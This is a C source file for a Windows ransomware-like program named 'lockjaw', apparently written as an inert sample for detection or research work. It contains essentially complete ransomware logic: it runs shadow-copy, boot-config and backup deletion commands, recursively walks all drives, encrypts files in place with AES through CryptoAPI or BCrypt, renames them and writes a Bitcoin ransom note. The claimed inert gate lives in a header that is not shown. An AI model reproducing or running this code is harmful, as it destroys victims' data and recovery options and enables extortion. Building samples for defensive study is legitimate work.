/* lockjaw - ransomware-like: kills recovery (vssadmin, bcdedit, wbadmin), walks the drives, encrypts
 * files with CryptoAPI (v1, v2) or BCrypt (v3, UTF-16 names), renames them with CFG_EXT and drops a
 * ransom note.  Inert: see common/inert.h; the walk is behind spoor_never like everything else. */
#include <windows.h>
#include "config.h"
#include "../../common/inert.h"
#ifdef CFG_CRYPTO_BCRYPT
#include <bcrypt.h>
#endif

static const char note_fmt[] =
    CFG_NOTE_HEAD "\r\n\r\n"
    "All your documents, photos and databases were encrypted with a unique key.\r\n"
    "To get the decryptor, send 0.05 BTC to %s and write to %s with your ID %08lX.\r\n"
    "Payment portal: %s\r\n";

static int skip_dir(const char *name)
{
    const char *p = CFG_SKIP_DIRS, *q;
    size_t n = (size_t)lstrlenA(name);
    while (*p) {
        for (q = p; *q && *q != '|'; q++)
            ;
        if ((size_t)(q - p) == n && CompareStringA(LOCALE_INVARIANT, NORM_IGNORECASE, p, (int)n, name,
                                                   (int)n) == CSTR_EQUAL)
            return 1;
        p = *q ? q + 1 : q;
    }
    return 0;
}

#ifdef CFG_CRYPTO_CAPI
static HCRYPTPROV prov;
static HCRYPTKEY key;

static int crypto_init(void)
{
    return CryptAcquireContextA(&prov, NULL, MS_ENH_RSA_AES_PROV_A, PROV_RSA_AES, CRYPT_VERIFYCONTEXT) &&
           CryptGenKey(prov, CALG_AES_256, CRYPT_EXPORTABLE, &key);
}

static void encrypt_file(const char *path)
{
    char target[MAX_PATH];
    BYTE buf[4096 + 32];
    DWORD got, put;
    HANDLE in = CreateFileA(path, GENERIC_READ | GENERIC_WRITE, 0, NULL, OPEN_EXISTING, 0, NULL);
    if (in == INVALID_HANDLE_VALUE)
        return;
    while (ReadFile(in, buf, 4096, &got, NULL) && got) {
        if (!CryptEncrypt(key, 0, got < 4096, 0, buf, &got, sizeof buf))
            break;
        SetFilePointer(in, -(LONG)got, NULL, FILE_CURRENT);
        WriteFile(in, buf, got, &put, NULL);
    }
    CloseHandle(in);
    wsprintfA(target, "%s%s", path, CFG_EXT);
    MoveFileA(path, target);
}

static void walk(const char *dir, int depth)
{
    char pattern[MAX_PATH], child[MAX_PATH];
    WIN32_FIND_DATAA fd;
    HANDLE h;
    if (depth > 16)
        return;
    wsprintfA(pattern, "%s\\*", dir);
    h = FindFirstFileA(pattern, &fd);
    if (h == INVALID_HANDLE_VALUE)
        return;
    do {
        if (fd.cFileName[0] == '.' || lstrcmpiA(fd.cFileName, CFG_NOTE_NAME) == 0)
            continue;
        wsprintfA(child, "%s\\%s", dir, fd.cFileName);
        if (fd.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
            if (!skip_dir(fd.cFileName))
                walk(child, depth + 1);
        } else {
            encrypt_file(child);
        }
    } while (FindNextFileA(h, &fd));
    FindClose(h);
}

static void drop_note(const char *dir, const char *text)
{
    char path[MAX_PATH];
    DWORD put;
    HANDLE f;
    wsprintfA(path, "%s\\%s", dir, CFG_NOTE_NAME);
    f = CreateFileA(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
    if (f != INVALID_HANDLE_VALUE) {
        WriteFile(f, text, (DWORD)lstrlenA(text), &put, NULL);
        CloseHandle(f);
    }
}
#else
static BCRYPT_ALG_HANDLE alg;
static BCRYPT_KEY_HANDLE key;

static int crypto_init(void)
{
    static UCHAR secret[32];
    if (BCryptGenRandom(NULL, secret, sizeof secret, BCRYPT_USE_SYSTEM_PREFERRED_RNG) != 0)
        return 0;
    return BCryptOpenAlgorithmProvider(&alg, BCRYPT_AES_ALGORITHM, NULL, 0) == 0 &&
           BCryptGenerateSymmetricKey(alg, &key, NULL, 0, secret, sizeof secret, 0) == 0;
}

static void encrypt_file(const WCHAR *path)
{
    WCHAR target[MAX_PATH];
    UCHAR in_buf[4096], out_buf[4096 + 32];
    ULONG got = 0, done = 0;
    DWORD put;
    HANDLE f = CreateFileW(path, GENERIC_READ | GENERIC_WRITE, 0, NULL, OPEN_EXISTING, 0, NULL);
    if (f == INVALID_HANDLE_VALUE)
        return;
    while (ReadFile(f, in_buf, sizeof in_buf, &got, NULL) && got) {
        if (BCryptEncrypt(key, in_buf, got, NULL, NULL, 0, out_buf, sizeof out_buf, &done,
                          BCRYPT_BLOCK_PADDING) != 0)
            break;
        SetFilePointer(f, -(LONG)got, NULL, FILE_CURRENT);
        WriteFile(f, out_buf, done, &put, NULL);
    }
    CloseHandle(f);
    wsprintfW(target, L"%s%s", path, CFG_EXT);
    MoveFileW(path, target);
}

static void walk(const WCHAR *dir, int depth)
{
    WCHAR pattern[MAX_PATH], child[MAX_PATH];
    char narrow[MAX_PATH];
    WIN32_FIND_DATAW fd;
    HANDLE h;
    if (depth > 16)
        return;
    wsprintfW(pattern, L"%s\\*", dir);
    h = FindFirstFileW(pattern, &fd);
    if (h == INVALID_HANDLE_VALUE)
        return;
    do {
        if (fd.cFileName[0] == L'.' || lstrcmpiW(fd.cFileName, CFG_NOTE_NAME) == 0)
            continue;
        wsprintfW(child, L"%s\\%s", dir, fd.cFileName);
        if (fd.dwFileAttributes & FILE_ATTRIBUTE_DIRECTORY) {
            WideCharToMultiByte(CP_ACP, 0, fd.cFileName, -1, narrow, sizeof narrow, NULL, NULL);
            if (!skip_dir(narrow))
                walk(child, depth + 1);
        } else {
            encrypt_file(child);
        }
    } while (FindNextFileW(h, &fd));
    FindClose(h);
}

static void drop_note(const WCHAR *dir, const char *text)
{
    WCHAR path[MAX_PATH];
    DWORD put;
    HANDLE f;
    wsprintfW(path, L"%s\\%s", dir, CFG_NOTE_NAME);
    f = CreateFileW(path, GENERIC_WRITE, 0, NULL, CREATE_ALWAYS, FILE_ATTRIBUTE_NORMAL, NULL);
    if (f != INVALID_HANDLE_VALUE) {
        WriteFile(f, text, (DWORD)lstrlenA(text), &put, NULL);
        CloseHandle(f);
    }
}
#endif

static int family_run(void)
{
    static char note[1024];
    DWORD drives, i;
    HANDLE mutex;
#ifdef CFG_CRYPTO_CAPI
    char root[4] = "A:";
    mutex = CreateMutexA(NULL, FALSE, CFG_MUTEX);
#else
    WCHAR root[4] = L"A:";
    mutex = CreateMutexW(NULL, FALSE, CFG_MUTEX);
#endif
    if (mutex == NULL || GetLastError() == ERROR_ALREADY_EXISTS || !crypto_init())
        return 1;
    WinExec(CFG_VSS_CMD, SW_HIDE);
    WinExec(CFG_BCD_CMD, SW_HIDE);
    WinExec(CFG_WBADMIN_CMD, SW_HIDE);
    wsprintfA(note, note_fmt, CFG_WALLET, CFG_EMAIL, GetTickCount(), CFG_PAY_URL);
    drives = GetLogicalDrives();
    for (i = 2; i < 26; i++) {
        if (!(drives & (1u << i)))
            continue;
        root[0] = (char)('A' + i);
        drop_note(root, note);
        walk(root, 0);
    }
    return 0;
}

#include "../../common/winentry.h"
